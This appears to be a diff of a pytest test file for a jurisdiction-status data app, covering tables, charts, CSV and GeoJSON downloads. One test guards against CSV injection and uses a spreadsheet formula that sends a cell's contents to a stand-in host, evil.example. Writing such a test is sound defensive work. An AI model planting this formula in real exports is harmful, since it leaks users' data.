@@ -30,12 +30,16 @@ from geo.timeline import (
     status_as_of,
 )
 from geo.vocabulary import EVENT_LABELS, STATUS_LABELS
+from tests.support.data import real, valid_fixture
 
 FIXTURE = Path(__file__).resolve().parent / "fixtures" / "valid"
 TODAY = date(2026, 11, 22)
-FX = load_dataset(FIXTURE)
-REAL = load_dataset(PROJECT_ROOT / "data")
-DATASETS = pytest.mark.parametrize("dataset", [FX, REAL], ids=["fixture", "real-data"])
+
+
+@pytest.fixture(params=["fixture", "real-data"])
+def dataset(request: pytest.FixtureRequest) -> Dataset:
+    """Each table test on the valid fixture and on the real data."""
+    return valid_fixture() if request.param == "fixture" else real()
 
 
 # --- events ----------------------------------------------------------------------------------
@@ -67,11 +71,10 @@ DATASETS = pytest.mark.parametrize("dataset", [FX, REAL], ids=["fixture", "real-
     ],
 )  # fmt: skip
 def test_filter_events(statuses, levels, year, expected):
-    found = tables.filter_events(FX, statuses=statuses, levels=levels, year=year)
+    found = tables.filter_events(valid_fixture(), statuses=statuses, levels=levels, year=year)
     assert [e.id for e in found] == expected
 
 
-@DATASETS
 def test_events_table_has_one_row_per_event_with_words_and_links(dataset: Dataset):
     events = tables.filter_events(dataset)
     table = tables.events_table(dataset, events)
@@ -87,7 +90,7 @@ def test_events_table_has_one_row_per_event_with_words_and_links(dataset: Datase
 
 
 def test_events_table_of_nothing_is_empty_with_columns():
-    table = tables.events_table(FX, [])
+    table = tables.events_table(valid_fixture(), [])
     assert table.empty
     assert list(table.columns) == list(tables.EVENT_COLUMNS)
 
@@ -95,7 +98,6 @@ def test_events_table_of_nothing_is_empty_with_columns():
 # --- timeline --------------------------------------------------------------------------------
 
 
-@DATASETS
 def test_monthly_frame_matches_the_snapshot(dataset: Dataset):
     frame = tables.monthly_frame(dataset, TODAY)
     first = max(min(e.when for e in dataset.events), date(STORY_START_YEAR, 1, 1))
@@ -119,7 +121,7 @@ def test_monthly_frame_matches_the_snapshot(dataset: Dataset):
 
 
 def test_monthly_frame_by_hand_on_the_fixture():
-    frame = tables.monthly_frame(FX, TODAY).set_index(["month", "status"])["count"]
+    frame = tables.monthly_frame(valid_fixture(), TODAY).set_index(["month", "status"])["count"]
     # Boston's 2018 trial counts from the month the story starts.
     assert frame.index.get_level_values("month").min() == pd.Timestamp("2019-01-01")
     assert frame[(pd.Timestamp("2019-01-01"), "using")] == 1
@@ -130,7 +132,9 @@ def test_monthly_frame_by_hand_on_the_fixture():
 
 
 def test_timeline_chart_marks_the_chosen_date_and_keeps_legend_order():
-    chart = timeline_chart(tables.monthly_frame(FX, TODAY), date(2020, 12, 31)).to_dict()
+    chart = timeline_chart(
+        tables.monthly_frame(valid_fixture(), TODAY), date(2020, 12, 31)
+    ).to_dict()
     area, lines, rule, _text = chart["layer"]
     labels, colours = tables.chart_scale()
     assert area["encoding"]["color"]["scale"] == {"domain": labels, "range": colours}
@@ -147,7 +151,6 @@ def test_timeline_chart_marks_the_chosen_date_and_keeps_legend_order():
 # --- places ----------------------------------------------------------------------------------
 
 
-@DATASETS
 @pytest.mark.parametrize("year", [2019, 2020, 2023, TODAY.year])
 def test_places_table_statuses_follow_the_timeline(dataset: Dataset, year: int):
     on = min(date(year, 12, 31), TODAY)
@@ -189,30 +192,30 @@ def test_places_table_statuses_follow_the_timeline(dataset: Dataset, year: int):
     ],
 )  # fmt: skip
 def test_filter_places_on_the_fixture_at_the_end_of_2019(filters, expected):
-    table = tables.places_table(FX, date(2019, 12, 31))
+    table = tables.places_table(valid_fixture(), date(2019, 12, 31))
     assert list(tables.filter_places(table, **filters).index) == expected
 
 
 def test_filter_places_status_matches_status_as_of_on_real_data():
     on = date(2020, 12, 31)
-    table = tables.places_table(REAL, on)
+    table = tables.places_table(real(), on)
     found = tables.filter_places(table, statuses=["banned"], levels=["city"])
-    statuses = status_as_of(REAL, on)
+    statuses = status_as_of(real(), on)
     expected = {
-        j.id for j in REAL.jurisdictions if j.level == "city" and statuses.get(j.id) == "banned"
+        j.id for j in real().jurisdictions if j.level == "city" and statuses.get(j.id) == "banned"
     }
     assert set(found.index) == expected
     assert expected, "some cities had banned it by the end of 2020"
 
 
 def test_shown_places_hides_the_codes():
-    shown = tables.shown_places(tables.places_table(FX, TODAY))
+    shown = tables.shown_places(tables.places_table(valid_fixture(), TODAY))
     assert list(shown.columns) == list(tables.PLACE_COLUMNS)
 
 
 def test_place_options():
-    assert tables.state_options(FX) == ["CA", "MA", "OR", "WA"]
-    assert tables.level_options(FX) == ["city", "county", "state", "supranational"]
+    assert tables.state_options(valid_fixture()) == ["CA", "MA", "OR", "WA"]
+    assert tables.level_options(valid_fixture()) == ["city", "county", "state", "supranational"]
 
 
 # --- quotes ----------------------------------------------------------------------------------
@@ -240,14 +243,14 @@ def test_place_options():
     ],
 )  # fmt: skip
 def test_filter_quotes(filters, expected):
-    assert [q.id for q in tables.filter_quotes(FX, **filters)] == expected
+    assert [q.id for q in tables.filter_quotes(valid_fixture(), **filters)] == expected
 
 
 def test_quote_search_on_real_data_finds_every_kaplan_and_nothing_else():
-    found = tables.filter_quotes(REAL, search="kaplan")
+    found = tables.filter_quotes(real(), search="kaplan")
     expected = {
         q.id
-        for q in REAL.quotes
+        for q in real().quotes
         if "kaplan" in (q.text + "\n" + q.speaker + "\n" + q.role).casefold()
     }
     assert {q.id for q in found} == expected
@@ -255,9 +258,9 @@ def test_quote_search_on_real_data_finds_every_kaplan_and_nothing_else():
 
 
 def test_who_argued_against_it_in_springfield():
-    found = tables.filter_quotes(REAL, stances=["opposes_ban"], places=["ma-springfield"])
+    found = tables.filter_quotes(real(), stances=["opposes_ban"], places=["ma-springfield"])
     expected = [
-        q.id for q in REAL.quotes if q.jurisdiction_id == "ma-springfield"
+        q.id for q in real().quotes if q.jurisdiction_id == "ma-springfield"
         and q.stance == "opposes_ban"
     ]  # fmt: skip
     assert sorted(q.id for q in found) == sorted(expected)
@@ -265,16 +268,15 @@ def test_who_argued_against_it_in_springfield():
 
 
 def test_quote_options():
-    assert tables.speaker_options(FX)[0] == "Alex Fixture"
-    assert tables.quote_year_options(FX) == [2019, 2020, 2021]
-    assert tables.quote_place_options(FX)[:2] == ["ma-boston", "eu"]  # by label
+    assert tables.speaker_options(valid_fixture())[0] == "Alex Fixture"
+    assert tables.quote_year_options(valid_fixture()) == [2019, 2020, 2021]
+    assert tables.quote_place_options(valid_fixture())[:2] == ["ma-boston", "eu"]  # by label
     assert tables.stance_options() == ["supports_ban", "opposes_ban", "neutral"]
 
 
 # --- CSV downloads ---------------------------------------------------------------------------
 
 
-@DATASETS
 def test_csv_round_trip(dataset: Dataset, tmp_path: Path):
     files = downloads.dataset_csvs(dataset)
     sessions = ["sessions.csv"] if dataset.sessions else []
@@ -304,10 +306,10 @@ def test_csv_round_trip(dataset: Dataset, tmp_path: Path):
 def test_csv_quotes_every_field_and_neutralises_a_formula_that_got_past_the_validator():
     """Issue 23: a speaker like `=HYPERLINK(...)` must not reach a spreadsheet as a formula,
     even from records built without the validator; numbers stay numbers."""
-    quote = FX.quotes[0]
+    quote = valid_fixture().quotes[0]
     evil = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'
     forged = quote.model_construct(**{**quote.model_dump(), "speaker": evil, "role": "@x"})
-    place = FX.jurisdictions[0]
+    place = valid_fixture().jurisdictions[0]
     text = downloads.records_csv([forged], FILES[2]).decode("utf-8")
     lines = text.splitlines()
     assert lines[0] == ",".join(f'"{name}"' for name in FILES[2].columns)
@@ -332,7 +334,7 @@ def test_csv_of_the_fixture_equals_the_file_row_for_row():
     """The fixture is written the way the CSV writer writes; the download is the same text."""
     for spec in FILES:
         original = list(csv.reader(io.StringIO((FIXTURE / spec.name).read_text("utf-8"))))
-        written = downloads.dataset_csvs(FX)[spec.name].decode("utf-8")
+        written = downloads.dataset_csvs(valid_fixture())[spec.name].decode("utf-8")
         assert list(csv.reader(io.StringIO(written))) == original
 
 
@@ -363,9 +365,9 @@ def read_geojson(data: bytes) -> gpd.GeoDataFrame:
 @pytest.mark.parametrize("year", [2019, 2020, 2023])
 def test_geojson_one_feature_per_place_with_its_status(year: int):
     on = date(year, 12, 31)
-    frame = read_geojson(downloads.status_geojson(FX, on, POLYGONS))
-    assert sorted(frame["id"]) == sorted(j.id for j in FX.jurisdictions)
-    statuses = status_as_of(FX, on)
+    frame = read_geojson(downloads.status_geojson(valid_fixture(), on, POLYGONS))
+    assert sorted(frame["id"]) == sorted(j.id for j in valid_fixture().jurisdictions)
+    statuses = status_as_of(valid_fixture(), on)
     for _, row in frame.iterrows():
         expected = statuses.get(row["id"])
         assert (row["status"] if isinstance(row["status"], str) else None) == expected
@@ -375,16 +377,16 @@ def test_geojson_one_feature_per_place_with_its_status(year: int):
 
 
 def test_geojson_geometry_is_the_polygon_else_the_point():
-    frame = read_geojson(downloads.status_geojson(FX, TODAY, POLYGONS)).set_index("id")
+    frame = read_geojson(downloads.status_geojson(valid_fixture(), TODAY, POLYGONS)).set_index("id")
     assert frame.loc["ca-oakland", "geometry"].equals(POLYGONS["ca-oakland"])
     assert frame.loc["ca-state", "geometry"].geom_type == "Polygon"
-    boston = FX.jurisdiction("ma-boston")
+    boston = valid_fixture().jurisdiction("ma-boston")
     assert frame.loc["ma-boston", "geometry"].equals(Point(boston.lon, boston.lat))
     assert frame.loc["eu", "geometry"].geom_type == "Point"
 
 
 def test_geojson_properties_come_from_the_data():
-    raw = json.loads(downloads.status_geojson(FX, date(2020, 12, 31), POLYGONS))
+    raw = json.loads(downloads.status_geojson(valid_fixture(), date(2020, 12, 31), POLYGONS))
     props = {f["properties"]["id"]: f["properties"] for f in raw["features"]}
     assert set(props["ca-oakland"]) == {
         "id", "name", "level", "state", "geoid", "role", "status", "status_label", "marks",
@@ -416,9 +418,9 @@ def test_geojson_properties_come_from_the_data():
 
 
 def test_geojson_can_leave_out_non_us_bodies():
-    raw = json.loads(downloads.status_geojson(FX, TODAY, {}, include_non_us=False))
+    raw = json.loads(downloads.status_geojson(valid_fixture(), TODAY, {}, include_non_us=False))
     ids = {f["properties"]["id"] for f in raw["features"]}
-    assert ids == {j.id for j in FX.jurisdictions if j.is_us}
+    assert ids == {j.id for j in valid_fixture().jurisdictions if j.is_us}
 
 
 def test_geojson_on_real_data_with_real_boundaries(app_env):
@@ -426,15 +428,15 @@ def test_geojson_on_real_data_with_real_boundaries(app_env):
     from geo.boundaries import load_boundaries
     from geo.config import get_settings
 
-    boundaries = load_boundaries(REAL, get_settings(), allow_build=False)
+    boundaries = load_boundaries(real(), get_settings(), allow_build=False)
     polygons = boundaries.polygons.to_crs(4326)
     shapes = dict(zip(polygons.index, polygons.geometry, strict=True))
     on = date(2020, 12, 31)
-    frame = read_geojson(downloads.status_geojson(REAL, on, shapes)).set_index("id")
-    assert sorted(frame.index) == sorted(j.id for j in REAL.jurisdictions)
-    statuses = status_as_of(REAL, on)
+    frame = read_geojson(downloads.status_geojson(real(), on, shapes)).set_index("id")
+    assert sorted(frame.index) == sorted(j.id for j in real().jurisdictions)
+    statuses = status_as_of(real(), on)
     got = {jid: (s if isinstance(s, str) else None) for jid, s in frame["status"].items()}
-    assert got == {j.id: statuses.get(j.id) for j in REAL.jurisdictions}
+    assert got == {j.id: statuses.get(j.id) for j in real().jurisdictions}
     for jid in shapes:
         assert frame.loc[jid, "geometry"].geom_type in ("Polygon", "MultiPolygon")
 
@@ -462,7 +464,6 @@ def test_codebook_markdown(tmp_path: Path):
     assert "missing" in tables.codebook_markdown(tmp_path / "README.md")
 
 
-@DATASETS
 def test_latest_event_and_sources(dataset: Dataset):
     latest = tables.latest_event(dataset)
     assert latest is not None
